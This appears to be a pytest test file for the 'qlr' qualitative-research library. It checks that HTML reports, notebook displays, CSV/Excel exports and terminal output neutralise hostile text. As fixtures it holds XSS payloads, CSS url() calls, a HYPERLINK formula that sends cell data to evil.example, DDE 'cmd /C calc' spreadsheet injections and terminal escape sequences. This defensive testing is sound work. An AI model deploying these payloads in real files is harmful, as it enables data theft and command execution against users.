"""Output that is only data (issue 13, item 6): hostile text from a study's files goes out inert.

A case label, a code name, a theme colour and a quote carry a script, an event
handler, a CSS ``url(...)`` and a spreadsheet formula.  They go through the report
(HTML, CSV, Excel), the notebook displays, every CSV and Excel writer and the
terminal, and nothing active may come out: no script or event attribute in HTML,
no colour but a colour in a ``style``, no cell a spreadsheet would run as a
formula, no escape sequence on the terminal.  The text itself is kept (escaped,
guarded with a leading ``'``, or as a plain string), never dropped.
"""

from __future__ import annotations

import csv
import dataclasses
import html
import re
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import qlr
from qlr._output import FORMULA_STARTS, restore_frame

from .conftest import SAMPLE

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '" onmouseover="alert(1)'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
COLOUR = "red;background:url(http://evil.example/c)"
# A quote may start with any formula character; each is put at the start of a coded segment.
QUOTES = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", SCRIPT]


class _Tags(HTMLParser):
    """Every start tag with its attributes, as a browser would read them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.tags.append((tag, attrs))


def assert_inert_html(page: str) -> None:
    parser = _Tags()
    parser.feed(page)
    for tag, attrs in parser.tags:
        assert tag not in ("script", "iframe", "object", "embed", "link", "base"), tag
        for name, value in attrs:
            value = value or ""
            assert not name.startswith("on"), (tag, name, value)
            assert "evil.example" not in value, (tag, name, value)
            if name == "style":
                assert "url(" not in value.lower() and "expression(" not in value.lower(), value
            if name in ("src", "href"):
                assert value.startswith(("data:image/png;base64,", "#")) or re.fullmatch(r"cases/[a-z0-9_-]+\.html|\.\./index\.html", value), (tag, name, value[:60])


def assert_inert_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    # RFC 4180 line ends (a newline inside a quoted cell is the cell's own).
    assert raw.endswith(b"\r\n") and raw.index(b"\n") == raw.index(b"\r\n") + 1, "RFC 4180 line ends"
    with open(path, newline="", encoding="utf-8") as stream:
        rows = list(csv.reader(stream))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (path.name, cell)
    return rows


def _is_number(cell: str) -> bool:
    """A negative number is a number to a spreadsheet, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_inert_excel(path: Path) -> set[str]:
    book = openpyxl.load_workbook(path)
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


@pytest.fixture(scope="module")
def hostile():
    """Three carers of the sample, coded, then given hostile text where files could put it."""
    study = qlr.load(SAMPLE, progress=False).sel(case=["C01", "C05", "C10"]).apply("coproduction", progress=False)
    study.name = SCRIPT + ATTRIBUTE
    study.cases.loc[study.cases["case_id"] == "C05", "label"] = ATTRIBUTE + SCRIPT
    cb = study.codebooks["coproduction"]
    theme = cb.themes[0].id
    code = next(c.id for c in cb if c.kind != "theme" and c.id in set(study.codings["code_id"]))
    renamed = [
        dataclasses.replace(c, name=SCRIPT, colour=COLOUR) if c.id == theme else dataclasses.replace(c, name=FORMULA) if c.id == code else c
        for c in cb
    ]
    study.codebooks["coproduction"] = qlr.Codebook(name=cb.name, id=cb.id, version=cb.version, ladder=cb.ladder, codes=renamed, lineage=cb.lineage)
    # Quotes: overwrite the start of coded segments, keeping every offset valid.
    coded = study.segments[study.segments["seg_id"].isin(study.codings["seg_id"])]
    coded = coded[(coded["end"] - coded["start"]) > max(map(len, QUOTES)) + 2].drop_duplicates("doc_id")
    texts = study.documents.set_index("doc_id")["text"].to_dict()
    for quote, segment in zip(QUOTES * 3, coded.itertuples()):
        text = texts[segment.doc_id]
        texts[segment.doc_id] = text[: segment.start] + quote + text[segment.start + len(quote) :]
    study.documents["text"] = study.documents["doc_id"].map(texts).astype(study.documents["text"].dtype)
    return study


def test_the_report_carries_nothing_active(hostile, tmp_path):
    page = qlr.report.write_report(hostile, tmp_path, progress=False)
    text = page.read_text(encoding="utf-8")
    assert_inert_html(text)
    assert html.escape(SCRIPT) in text  # kept, as text
    cells = {name.stem: assert_inert_csv(name) for name in sorted((tmp_path / "tables").glob("*.csv"))}
    # The hostile code name and quote are in the tables, guarded by a leading '.
    assert any(cell == "'" + FORMULA for row in cells["codebook"] for cell in row)
    assert any(cell.startswith("'" + FORMULA) for row in cells["placement_evidence"] for cell in row)
    cells = assert_inert_excel(tmp_path / "tables.xlsx")
    # Text stays text in Excel: the formula-looking strings are there, as strings.
    assert any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert not list(tmp_path.rglob(".qlr-tmp-*"))


def test_the_report_can_write_raw_csv_when_asked(hostile, tmp_path):
    qlr.report.write_report(hostile, tmp_path, progress=False, raw=True)
    cells = {cell for table in (tmp_path / "tables").glob("*.csv") for row in csv.reader(open(table, newline="", encoding="utf-8")) for cell in row}
    assert any(cell.startswith(FORMULA_STARTS) for cell in cells)


def test_notebook_displays_carry_nothing_active(hostile):
    placements = qlr.track.ladder(hostile)
    shown = {
        "study": hostile._repr_html_(),
        "codebook": hostile.codebooks["coproduction"]._repr_html_(),
        "matrix": qlr.track.matrix(hostile, cols="code")._repr_html_(),
        "placements": placements._repr_html_(),
    }
    for page in shown.values():
        assert_inert_html(page)
    assert html.escape(SCRIPT) in shown["study"] and html.escape(SCRIPT) in shown["codebook"]
    # The hostile colour becomes the default swatch; a real one passes.
    assert "background:#999" in shown["codebook"] and "#0072B2" in qlr.read_codebook("coproduction")._repr_html_()


def test_csv_and_excel_writers_neutralise_and_read_back(hostile, tmp_path):
    placements = qlr.track.ladder(hostile)
    placements.to_csv(tmp_path / "placements.csv", evidence=tmp_path / "quotes.csv")
    assert_inert_csv(tmp_path / "placements.csv")
    rows = assert_inert_csv(tmp_path / "quotes.csv")
    back = restore_frame(pd.read_csv(tmp_path / "quotes.csv", dtype=str, keep_default_na=False))
    assert back["quote"].tolist() == placements.evidence["quote"].astype(str).tolist()
    assert any(cell.startswith("'" + FORMULA) for row in rows for cell in row)

    tidy = pd.DataFrame({"case_id": [FORMULA, "+1", "-1", "@x"], "wave_id": ["W1"] * 4, "theme": [SCRIPT] * 4, "value": [-1.0, 2.0, 0.0, 3.0]})
    matrix = qlr.track.Matrix(tidy, rows="case_id", cols="theme", by="wave_id", value="count")
    matrix.to_csv(tmp_path / "matrix.csv")
    assert_inert_csv(tmp_path / "matrix.csv")
    assert pd.read_csv(tmp_path / "matrix.csv")["value"].tolist() == [-1.0, 2.0, 0.0, 3.0]  # numbers stay numbers
    matrix.to_csv(tmp_path / "raw.csv", raw=True)
    assert pd.read_csv(tmp_path / "raw.csv")["case_id"].tolist() == [FORMULA, "+1", "-1", "@x"]
    matrix.to_excel(tmp_path / "matrix.xlsx")
    assert {FORMULA, "+1", "-1", "@x"} <= assert_inert_excel(tmp_path / "matrix.xlsx")
    assert pd.read_excel(tmp_path / "matrix.xlsx", sheet_name="tidy")["value"].tolist() == [-1, 2, 0, 3]


def test_a_coding_sheet_reads_back_exactly(hostile, tmp_path):
    study = hostile.copy()
    path = qlr.code.write_coding_sheet(study, tmp_path / "jk.csv", coder="jk")
    assert_inert_csv(path)
    written = pd.read_csv(path, dtype=str, keep_default_na=False)
    texts = study.segment_texts()
    restored = restore_frame(written)
    assert restored["text"].tolist() == restored["seg_id"].map(texts).tolist()
    assert {q for q in QUOTES} <= {t[: len(q)] for t in restored["text"] for q in QUOTES if t.startswith(q)}
    # A coder fills in codes (one starting with a formula character) and saves with a spreadsheet's quoting.
    code = next(c.id for c in study.codebooks["coproduction"] if c.kind != "theme")
    hit = written["text"].str.startswith("'" + FORMULA)
    written.loc[hit, "codes"] = code
    written.to_csv(path, index=False)
    assert study.read_coding_sheet(path, coder="jk") == int(hit.sum())
    added = study.codings[study.codings["coder"] == "jk"]
    assert set(added["seg_id"]) == set(written.loc[hit, "seg_id"])


def test_the_terminal_gets_no_escape_sequences(hostile, monkeypatch, capsys):
    from qlr import cli

    study = hostile.copy()
    study.name = "\x1b]8;;http://evil.example\x07study\x1b[2J"
    study.cases.loc[study.cases["case_id"] == "C05", "role"] = "carer\nC99  carer  ●  ●  ●  forged"
    monkeypatch.setattr(cli, "_load_any", lambda path, quiet, allow_outside=False: study)
    assert cli.main(["info", "anything", "--quiet"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert not any(line.startswith("C99") for line in out.splitlines())
    assert "\\x1b" in out  # shown as a code, not dropped
